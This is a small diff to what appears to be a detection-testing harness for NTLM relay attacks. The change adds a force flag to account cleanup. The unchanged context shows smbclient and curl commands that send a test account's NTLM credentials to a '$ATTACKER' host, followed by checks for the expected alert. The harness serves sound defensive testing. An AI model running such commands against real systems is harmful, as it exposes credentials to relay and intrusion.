@@ -247,7 +247,7 @@ record_relay_smb() {
     capture clients
     shell desk "smbclient -U WARD/wardrelay%ward-Secret-7 //$ATTACKER/share -c ls"
     sleep 3
-    userdel wardrelay 2>/dev/null || true
+    userdel -f wardrelay 2>/dev/null || true
     expect "{technique: T1557.001, actor: $ATTACKER, kind: relayed logon, target: $FILES}"
     contains "ntlmssp.messagetype == 3" -ge 2
     finish
@@ -262,7 +262,7 @@ record_relay_http() {
     capture clients
     shell desk "curl -s -m 5 --ntlm -u 'WARD/wardrelay:ward-Secret-7' http://$ATTACKER/"
     sleep 3
-    userdel wardrelay 2>/dev/null || true
+    userdel -f wardrelay 2>/dev/null || true
     expect "{technique: T1557.001, actor: $ATTACKER, kind: relayed logon, target: $FILES}"
     contains "ntlmssp.messagetype == 3" -ge 2
     finish
